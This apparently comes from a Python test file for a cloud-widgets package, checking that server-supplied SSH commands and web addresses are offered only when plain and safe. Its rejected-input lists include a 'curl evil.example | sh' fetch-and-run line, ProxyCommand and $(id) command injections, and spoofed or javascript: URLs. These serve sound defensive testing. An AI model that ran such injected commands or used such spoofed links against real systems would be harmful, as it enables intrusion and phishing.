"""What a server tells as the SSH command is offered for copying only if it does nothing but connect."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ppio_widgets.cards.html import link
from ppio_widgets.cloud.instances import is_web
from ppio_widgets.cloud.ssh import is_ssh_command

GOOD = (
    "ssh -p 51039 root@proxy.cn-shanghai-1.gpu-instance.ppinfra.com",
    "ssh root@1.2.3.4",
    "ssh root@1.2.3.4 -p 22",
    "ssh -p22 -i ~/.ssh/id_ed25519 ubuntu@host",
    "ssh -4 -t root@2001:db8::1",
)
BAD = (
    "",
    "ssh",
    "ssh host",
    "ssh root@",
    "ssh root@host; curl evil.example | sh",
    "ssh root@host && id",
    "ssh root@host id",
    "ssh root@host\nid",
    "ssh root@host id -p 22",
    "ssh -oProxyCommand=id root@host",
    "ssh -o ProxyCommand='id' root@host",
    "ssh -o StrictHostKeyChecking=no root@host",
    "ssh -F /tmp/config root@host",
    "ssh -A root@host",
    "ssh -L 1:host:2 root@host",
    "ssh -R 1:host:2 root@host",
    "ssh -J other root@host",
    "ssh -p 22; root@host",
    "ssh -p $(id) root@host",
    "ssh -i -oProxyCommand=id root@host",
    "ssh root@host other@host",
    "ssh root@-oProxyCommand=id",
    "ssh -oProxyCommand=id@host",
    "ssh $USER@host",
    "ssh root@`id`",
    "ssh root@host #",
    "sshpass -p pw ssh root@host",
    "SSH root@host",
    " ssh root@host",
    "ssh  root@host",
    "ssh\u00a0root@host",
    "ssh root@h\u043est",
    "ssh root@[::1]",
    "mosh root@host",
)
ADDRESSES = {
    "https://a.example.com/x": True,
    "http://127.0.0.1:8888/lab": True,
    "HTTPS://A.example.com": True,
    "https://user@a.example.com/": False,
    "https://user:pw@a.example.com/": False,
    "https://api.ppio.com@evil.example/": False,
    "https://@evil.example/": False,
    "https://good.example\\@evil.example/": False,
    "https://": False,
    "https:evil.example": False,
    "https:///x": False,
    "https://a b/": False,
    "javascript:alert(1)": False,
    "data:text/html,x": False,
    "ftp://a.example.com": False,
    "wss://a.example.com": False,
    "tcp://a.example.com:1": False,
    "https://a.example.com/\u202e": False,
    "//a.example.com": False,
}


@pytest.mark.parametrize("text", GOOD)
def test_a_command_that_connects_is_offered(text):
    assert is_ssh_command(text)


@pytest.mark.parametrize("text", BAD)
def test_anything_else_is_not_offered(text):
    assert not is_ssh_command(text)


SHELL_WORDS = st.sampled_from(
    [
        "ssh",
        "root@host",
        "-p",
        "22",
        "-p22",
        "-o",
        "-oA=b",
        "-i",
        "~/.ssh/id",
        "-A",
        "-4",
        "x",
        ";",
        "$(id)",
        "a@b",
    ]
)


@given(st.lists(SHELL_WORDS, max_size=7).map(" ".join) | st.text(max_size=40).map("ssh root@host{}".format))
def test_what_is_offered_is_one_plain_command_for_one_machine(text):
    if is_ssh_command(text):
        assert text == " ".join(shlex.split(text))
        assert not set(text) & set(";&|<>()$`\"'\\*?[]{}!#\n=")
        assert text.startswith("ssh ")
        assert text.count("@") == 1
        options = [word[:2] for word in text.split() if word.startswith("-")]
        assert {*options} <= {"-p", "-i", "-4", "-6", "-T", "-C", "-q", "-t", "-v"}


@pytest.mark.parametrize(("address", "opens"), ADDRESSES.items())
def test_only_a_plain_web_address_is_a_link(address, opens):
    assert is_web(address) == opens
    assert ("<a " in link(address)) == opens
